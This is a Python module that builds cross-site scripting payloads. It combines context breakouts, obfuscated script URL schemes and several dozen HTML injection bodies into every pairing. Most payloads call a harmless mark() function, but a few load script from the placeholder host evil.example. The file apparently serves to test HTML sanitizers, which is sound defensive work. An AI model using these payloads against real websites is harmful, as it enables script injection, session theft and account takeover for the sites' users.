"""Scripts in markup, by a small grammar: what breaks out of a place, what would run, and how it is spelled."""

from collections.abc import Iterator
from itertools import product

# What ends the place that a text may have been put into, a cell of a page of ours or of the origin's.
BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</a>",
    "</pre>",
    "</textarea>",
    "</title>",
    "\x00",
    "\uff1c/p\uff1e",
    "&lt;b&gt;",
    '" onfocus="mark()" x="',
    "`>",
)
# Where a script stands in an address; `{}` is the script.
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61vascript:{}",
    "vbscript:{}",
    "livescript:{}",
    "mocha:{}",
    "data:text/html,<script>{}</script>",
    "view-source:javascript:{}",
    "//x.example/\x0djavascript:{}",
    "javascript:123",
)
# What runs in a browser of some year; `{}` is an address with a script.
BODIES = (
    "<script>mark()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>mark()</scr</script>ipt>",
    "<img src=x onerror=mark()>",
    "<img/src/onerror=mark()>",
    '<img src="{}">',
    '<img dynsrc="{}" lowsrc="{}">',
    '<a href="{}">a link that leads nowhere good</a>',
    "<a href={}>another</a>",
    '<a href="x" onclick="mark()" style="x:expression(mark())">third</a>',
    '<area href="{}">',
    '<svg onload=mark()><a xlink:href="{}"><text>t</text></a></svg>',
    '<math><maction xlink:href="{}">m</maction></math>',
    '<iframe src="{}"></iframe>',
    '<iframe srcdoc="<script>mark()</script>"></iframe>',
    '<object data="{}" type="text/html"></object>',
    '<embed src="{}">',
    "<applet code=Evil codebase=//evil.example></applet>",
    '<form action="{}"><input type=submit value=go></form>',
    '<button formaction="{}">go</button>',
    '<input type=image src="{}" onfocus=mark() autofocus>',
    "<isindex action={} prompt=go>",
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    "<style>@import '{}'; p {{ background: url({}); behavior: url(x) }}</style>",
    '<body background="{}" onload=mark()>',
    '<table background="{}"><td background="{}">t</table>',
    '<bgsound src="{}">',
    '<layer src="{}"></layer><ilayer src="{}"></ilayer>',
    '<br size="&{{mark()}}">',
    '<p style="-moz-binding:url({})">p</p>',
    "<xmp><script>mark()</script></xmp>",
    "<plaintext><script>mark()",
    '<noscript><p title="</noscript><script>mark()</script>"></noscript>',
    "<!--[if IE]><script>mark()</script><![endif]-->",
    "<!--><script>mark()</script>-->",
    "<![CDATA[<script>mark()</script>]]>",
    '<?php echo "x" ?><? xml:namespace ?>',
    '<!--#exec cmd="mark"-->',
    "<textarea><img src=x onerror=mark()>",
    "<select><option><script>mark()</script></select>",
    "<marquee onstart=mark()>m</marquee>",
    "<details ontoggle=mark() open>d</details>",
    "<video src=x onerror=mark()></video>",
    "<x onclick=mark() contenteditable>x</x>",
    '<a<b href="{}">x',
    "<img src='x' alt='`onerror=mark()'>",
)


def payloads() -> Iterator[str]:
    """Give every body behind every break, the schemes in turn."""
    for number, (end, body) in enumerate(product(BREAKS, BODIES)):
        address = SCHEMES[number % len(SCHEMES)].format("mark()")
        yield end + body.replace("{{", "{").replace("}}", "}").replace("{}", address)
